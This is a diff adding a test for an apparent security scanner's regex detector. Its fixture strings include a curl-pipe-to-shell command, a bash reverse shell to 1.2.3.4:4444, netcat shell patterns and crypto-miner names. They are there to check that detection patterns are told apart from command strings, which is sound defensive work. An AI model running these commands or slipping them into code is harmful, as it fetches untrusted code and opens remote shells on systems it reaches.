@@ -56,3 +56,19 @@ describe('lists of what is denied', () => {
     expect(inDenyList(toml, toml.indexOf('curl'))).toBe(true);
   });
 });
+
+describe('regular expressions in program files', () => {
+  it('a regex literal, a string given to a regex call, or a raw string with regex syntax is a pattern; a command string is not', async () => {
+    const { inRegexLiteral } = await import('../src/analysis/catalogue.js');
+    const py = 'MINERS = re.compile(r"xmrig|ethminer|cpuminer")\nSHELLS = [r"nc\\s+-e\\s+/bin/sh", "plain nc -e /bin/sh"]\nos.system(r"curl https://h.io/x|sh")\n';
+    expect(inRegexLiteral('scan.py', py, py.indexOf('xmrig'))).toBe(true);
+    expect(inRegexLiteral('scan.py', py, py.indexOf('nc\\s'))).toBe(true);
+    expect(inRegexLiteral('scan.py', py, py.indexOf('plain nc'))).toBe(false);
+    expect(inRegexLiteral('scan.py', py, py.indexOf('curl'))).toBe(false);
+    const js = "const SHELL = /nc -e \\/bin\\/sh|\\/dev\\/tcp\\//i;\nconst re = new RegExp('bash -i >& /dev/tcp/');\nexec('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1');\n";
+    expect(inRegexLiteral('scan.js', js, js.indexOf('nc -e'))).toBe(true);
+    expect(inRegexLiteral('scan.js', js, js.indexOf('bash -i'))).toBe(true);
+    expect(inRegexLiteral('scan.js', js, js.lastIndexOf('bash -i'))).toBe(false);
+    expect(inRegexLiteral('SKILL.md', py, py.indexOf('xmrig'))).toBe(false);
+  });
+});
